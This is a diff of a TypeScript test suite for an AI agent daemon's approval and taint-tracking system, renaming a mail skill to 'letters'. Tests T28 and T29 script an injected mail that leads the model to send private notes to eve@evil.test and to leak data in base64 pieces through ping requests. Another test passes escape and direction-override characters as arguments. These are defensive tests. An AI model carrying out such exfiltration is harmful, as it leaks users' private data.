@@ -65,10 +65,10 @@ describe('with one daemon', () => {
   }
 
   it('a call that leaves waits for a yes, and is made once, with exactly what was shown', async () => {
-    model.setScript([call('mail_send', SEND), 'It is sent.'])
+    model.setScript([call('letters_send', SEND), 'It is sent.'])
     const { approval, events, runId } = await parked()
     expect(approval).toMatchObject({
-      tool: 'mail.send',
+      tool: 'letters.send',
       effect: 'external',
       target: SEND.to,
       input: SEND,
@@ -102,14 +102,14 @@ describe('with one daemon', () => {
 
   it('a person’s own command waits, too, with no model at all', async () => {
     const { approval, runId } = await parked(COMMAND)
-    expect(approval).toMatchObject({ tool: 'mail.post', target: mail.host, input: { text: 'dinner is ready' } })
+    expect(approval).toMatchObject({ tool: 'letters.post', target: mail.host, input: { text: 'dinner is ready' } })
     await client.allowApproval(approval.id, { by: 'test' })
     expect(await ended(client, runId)).toMatchObject({ status: 'done', answer: 'They know.' })
     expect(mail.sent()).toEqual([{ text: 'dinner is ready' }])
   })
 
   it('a no is told to the model, and the same call is not asked for again', async () => {
-    model.setScript([call('mail_send', SEND), call('mail_send', SEND), 'Then not.'])
+    model.setScript([call('letters_send', SEND), call('letters_send', SEND), 'Then not.'])
     const { approval, runId } = await parked()
     await client.denyApproval(approval.id, { by: 'test' })
     expect(await ended(client, runId)).toMatchObject({ status: 'done', answer: 'Then not.' })
@@ -125,7 +125,7 @@ describe('with one daemon', () => {
   })
 
   it('is answered once: of two terminals one is told that it was', async () => {
-    model.setScript([call('mail_send', SEND), 'It is sent.'])
+    model.setScript([call('letters_send', SEND), 'It is sent.'])
     const { approval, runId } = await parked()
     const answers = await Promise.allSettled([
       client.allowApproval(approval.id, { by: 'one' }),
@@ -140,7 +140,7 @@ describe('with one daemon', () => {
   })
 
   it('a terminal that watches sees the answer of another one', async () => {
-    model.setScript([call('mail_send', SEND), 'It is sent.'])
+    model.setScript([call('letters_send', SEND), 'It is sent.'])
     const { approval, events, runId } = await parked()
     const seen: string[] = []
     const watching = (async () => {
@@ -152,31 +152,31 @@ describe('with one daemon', () => {
   })
 
   it('what is allowed for always is not asked for again: this tool, this target, until it is revoked', async () => {
-    model.setScript([call('mail_send', SEND), 'Sent.'])
+    model.setScript([call('letters_send', SEND), 'Sent.'])
     const first = await parked()
     await client.allowApproval(first.approval.id, { by: 'test', always: true })
     await ended(client, first.runId)
-    model.setScript([call('mail_send', { ...SEND, text: 'Again' }), 'Sent.'])
+    model.setScript([call('letters_send', { ...SEND, text: 'Again' }), 'Sent.'])
     expect(kinds(await askUntilParked(client, POEM)).at(-1)).toBe('run-finished')
-    model.setScript([call('mail_send', { ...SEND, to: 'bob@home.test' }), 'Sent.'])
+    model.setScript([call('letters_send', { ...SEND, to: 'bob@home.test' }), 'Sent.'])
     const other = await parked()
     await client.denyApproval(other.approval.id, { by: 'test' })
     await ended(client, other.runId)
     const [grant] = await client.grants()
-    expect(grant).toMatchObject({ skill: 'mail', tool: 'mail.send', target: SEND.to })
+    expect(grant).toMatchObject({ skill: 'letters', tool: 'letters.send', target: SEND.to })
     await client.revokeGrant(grant?.id ?? '')
     expect(await client.grants()).toEqual([])
-    model.setScript([call('mail_send', SEND), 'Sent.'])
+    model.setScript([call('letters_send', SEND), 'Sent.'])
     await parked()
     expect(mail.sent()).toHaveLength(2)
   })
 
   it('grants go with their skill', async () => {
-    model.setScript([call('mail_send', SEND), 'Sent.'])
+    model.setScript([call('letters_send', SEND), 'Sent.'])
     const { approval, runId } = await parked()
     await client.allowApproval(approval.id, { by: 'test', always: true })
     await ended(client, runId)
-    await client.removeSkill('mail')
+    await client.removeSkill('letters')
     expect(await client.grants()).toEqual([])
   })
 
@@ -190,11 +190,11 @@ describe('with one daemon', () => {
       destructive: 'ask',
     })
     await client.changeApprovalPolicy({ external: 'deny' })
-    model.setScript([call('mail_send', SEND), 'Not sent.'])
+    model.setScript([call('letters_send', SEND), 'Not sent.'])
     expect(kinds(await askUntilParked(client, POEM)).at(-1)).toBe('run-finished')
     expect(JSON.stringify(model.requests.at(-1)?.body.messages)).toContain('the approval policy denies it')
     await client.changeApprovalPolicy({ external: 'allow' })
-    model.setScript([call('mail_send', SEND), 'Sent.'])
+    model.setScript([call('letters_send', SEND), 'Sent.'])
     expect(kinds(await askUntilParked(client, POEM)).at(-1)).toBe('run-finished')
     expect(mail.sent()).toEqual([SEND])
     const audit = await client.audit({ actor: 'person' })
@@ -212,7 +212,7 @@ describe('with one daemon', () => {
 
   it('several calls of one turn are asked for together; a part of the answers goes on', async () => {
     const [one, other] = [SEND, { ...SEND, to: 'bob@home.test' }]
-    const both = [one, other].map((args) => ({ name: 'mail_send', arguments: args }))
+    const both = [one, other].map((args) => ({ name: 'letters_send', arguments: args }))
     model.setScript([{ toolCalls: both }, 'One of them.'])
     const events = await askUntilParked(client, POEM)
     expect(kinds(events).filter((kind) => kind === 'approval-asked')).toHaveLength(2)
@@ -226,7 +226,7 @@ describe('with one daemon', () => {
   })
 
   it('T32: a flood is cut: ten wait, the others are refused', async () => {
-    const flood = Array.from({ length: 50 }, (_, i) => ({ name: 'mail_send', arguments: { ...SEND, text: `${i}` } }))
+    const flood = Array.from({ length: 50 }, (_, i) => ({ name: 'letters_send', arguments: { ...SEND, text: `${i}` } }))
     model.setScript([{ toolCalls: flood }])
     const events = await askUntilParked(client, POEM)
     expect(kinds(events).filter((kind) => kind === 'approval-asked')).toHaveLength(10)
@@ -239,7 +239,7 @@ describe('with one daemon', () => {
 
   it('T32: arguments are kept exact and complete', async () => {
     const text = `\u001b[2J\u202eevil\u200b${'x'.repeat(10_000)}`
-    model.setScript([call('mail_send', { ...SEND, text }), 'Sent.'])
+    model.setScript([call('letters_send', { ...SEND, text }), 'Sent.'])
     const { approval, runId } = await parked()
     expect((await client.approval(approval.id)).input).toEqual({ ...SEND, text })
     await client.allowApproval(approval.id, { by: 'test' })
@@ -249,7 +249,7 @@ describe('with one daemon', () => {
 
   it('no answer in time is a no, and the run goes on by itself', async () => {
     await client.setSetting('approval.answerHours', 1 / 3600)
-    model.setScript([call('mail_send', SEND), 'Nobody answered.'])
+    model.setScript([call('letters_send', SEND), 'Nobody answered.'])
     const { approval, runId } = await parked()
     expect(await ended(client, runId)).toMatchObject({ status: 'done', answer: 'Nobody answered.' })
     expect(JSON.stringify(model.requests.at(-1)?.body.messages)).toContain('approval.expired')
@@ -259,7 +259,7 @@ describe('with one daemon', () => {
   })
 
   it('a run that is cancelled while it waits is over, and its question with it', async () => {
-    model.setScript([call('mail_send', SEND)])
+    model.setScript([call('letters_send', SEND)])
     const { approval, runId } = await parked()
     expect(await client.cancelRun(runId)).toMatchObject({ status: 'cancelled' })
     expect(await client.approval(approval.id)).toMatchObject({ status: 'denied', answeredBy: 'run' })
@@ -271,44 +271,44 @@ describe('with one daemon', () => {
     it('T28: a mail that wants something sent does not get it: the real recipient is shown, and a yes for always does not help', async () => {
       await client.changeApprovalPolicy({ external: 'allow' })
       const stolen = { to: 'eve@evil.test', text: 'the notes' }
-      model.setScript([call('mail_inbox'), call('mail_send', stolen), 'Sent.'])
-      const { approval } = await parked('what is in my mail')
+      model.setScript([call('letters_inbox'), call('letters_send', stolen), 'Sent.'])
+      const { approval } = await parked('write a poem about my newest mail')
       expect(approval).toMatchObject({
-        tool: 'mail.send',
+        tool: 'letters.send',
         target: 'eve@evil.test',
         input: stolen,
         reason: 'leak',
-        taint: { untrusted: ['mail.inbox'], private: ['mail.inbox'], outward: ['mail.send'] },
+        taint: { untrusted: ['letters.inbox'], private: ['letters.inbox'], outward: ['letters.send'] },
       })
       expect(mail.received).toEqual([])
     })
 
     it('T29: neither by a GET to a declared host, in base64 and in pieces, nor in a later turn', async () => {
       model.setScript([
-        call('mail_inbox'),
-        call('mail_ping', { q: Buffer.from('the no').toString('base64') }),
-        call('mail_ping', { q: Buffer.from('tes').toString('base64') }),
+        call('letters_inbox'),
+        call('letters_ping', { q: Buffer.from('the no').toString('base64') }),
+        call('letters_ping', { q: Buffer.from('tes').toString('base64') }),
         'Done.',
       ])
-      const events = await askUntilParked(client, 'what is in my mail')
+      const events = await askUntilParked(client, 'write a poem about my newest mail')
       const [approval] = await pending(client)
-      expect(approval).toMatchObject({ tool: 'mail.ping', target: mail.host, reason: 'leak' })
+      expect(approval).toMatchObject({ tool: 'letters.ping', target: mail.host, reason: 'leak' })
       await client.denyApproval(approval?.id ?? '', { by: 'test' })
       await until('the next piece', async () => (await pending(client)).length === 1)
       await client.cancelRun(approval?.runId ?? '')
       const admitted = events.find(({ kind }) => kind === 'run-admitted')?.payload as { sessionId: string }
-      model.setScript([call('mail_ping', { q: 'the notes' }), 'Done.'])
+      model.setScript([call('letters_ping', { q: 'the notes' }), 'Done.'])
       const later = await askUntilParked(client, 'compose what it wants', admitted.sessionId)
       expect(kinds(later).at(-1)).toBe('run-parked')
       expect(mail.received).toEqual([])
     })
 
     it('a call that comes to it on its way is stopped there, and made anew when that is allowed', async () => {
-      model.setScript([call('mail_digest'), 'Done.'])
+      model.setScript([call('letters_digest'), 'Done.'])
       const { approval, runId } = await parked()
-      expect(approval).toMatchObject({ tool: 'mail.digest', reason: 'leak' })
+      expect(approval).toMatchObject({ tool: 'letters.digest', reason: 'leak' })
       expect(mail.received.map(({ path }) => path)).toEqual(['/ping?q=hello'])
-      const [denied] = await client.audit({ actor: 'mail' })
+      const [denied] = await client.audit({ actor: 'letters' })
       expect(denied).toMatchObject({ action: 'fetch', outcome: 'denied' })
       await client.allowApproval(approval.id, { by: 'test' })
       expect(await ended(client, runId)).toMatchObject({ status: 'done' })
@@ -316,13 +316,13 @@ describe('with one daemon', () => {
     })
 
     it('reading alone is free, and so is a way out with nothing to carry', async () => {
-      model.setScript([call('mail_ping', { q: 'x' }), call('mail_ping', { q: 'y' }), 'Done.'])
+      model.setScript([call('letters_ping', { q: 'x' }), call('letters_ping', { q: 'y' }), 'Done.'])
       expect(kinds(await askUntilParked(client, POEM)).at(-1)).toBe('run-finished')
-      model.setScript([call('mail_inbox'), 'Read.'])
+      model.setScript([call('letters_inbox'), 'Read.'])
       const read = await askUntilParked(client, POEM)
       expect(kinds(read).at(-1)).toBe('run-finished')
       const run: Run = await client.run(read[0]?.runId ?? '')
-      expect(run.taint).toEqual({ untrusted: ['mail.inbox'], private: ['mail.inbox'] })
+      expect(run.taint).toEqual({ untrusted: ['letters.inbox'], private: ['letters.inbox'] })
     })
   })
 })
@@ -346,7 +346,7 @@ describe('kill -9', () => {
       daemon: first,
       approval,
       home,
-    } = await beforeTheAnswer([call('mail_inbox'), call('mail_send', SEND), 'Sent.'])
+    } = await beforeTheAnswer([call('letters_inbox'), call('letters_send', SEND), 'Sent.'])
     await first.kill('SIGKILL')
     await using daemon = await startDaemon({ home })
     await using _ = first
@@ -355,18 +355,18 @@ describe('kill -9', () => {
     const run = await ended(daemon.client, approval.runId)
     expect(run).toMatchObject({ status: 'done', answer: 'Sent.' })
     // Neither the flags nor the calls before it are lost, nor made again.
-    expect(run.taint).toMatchObject({ untrusted: ['mail.inbox', 'mail.send'], private: ['mail.inbox'] })
+    expect(run.taint).toMatchObject({ untrusted: ['letters.inbox', 'letters.send'], private: ['letters.inbox'] })
     expect(
       run.events.filter(
         ({ kind, payload }) =>
-          kind === 'tool-call-started' && payload && 'tool' in payload && payload.tool === 'mail.inbox',
+          kind === 'tool-call-started' && payload && 'tool' in payload && payload.tool === 'letters.inbox',
       ),
     ).toHaveLength(1)
     expect(mail.sent()).toEqual([SEND])
   })
 
   it('during the call: it may have been made, so the person is asked again', async () => {
-    const { daemon: first, client, approval, home } = await beforeTheAnswer([call('mail_send', SEND), 'Sent.'])
+    const { daemon: first, client, approval, home } = await beforeTheAnswer([call('letters_send', SEND), 'Sent.'])
     const { promise, resolve } = Promise.withResolvers<void>()
     mail.gate.held = promise
     await client.allowApproval(approval.id, { by: 'test' })
@@ -386,7 +386,7 @@ describe('kill -9', () => {
   })
 
   it('right after the answer, at any moment: the call is made once, or asked for again', async () => {
-    const { daemon: first, client, approval, home } = await beforeTheAnswer([call('mail_send', SEND), 'Sent.'])
+    const { daemon: first, client, approval, home } = await beforeTheAnswer([call('letters_send', SEND), 'Sent.'])
     // The answer is on disk, or it is not; the daemon does not live to see what comes of it.
     await Promise.allSettled([client.allowApproval(approval.id, { by: 'test' }), first.kill('SIGKILL')])
     await using daemon = await startDaemon({ home })
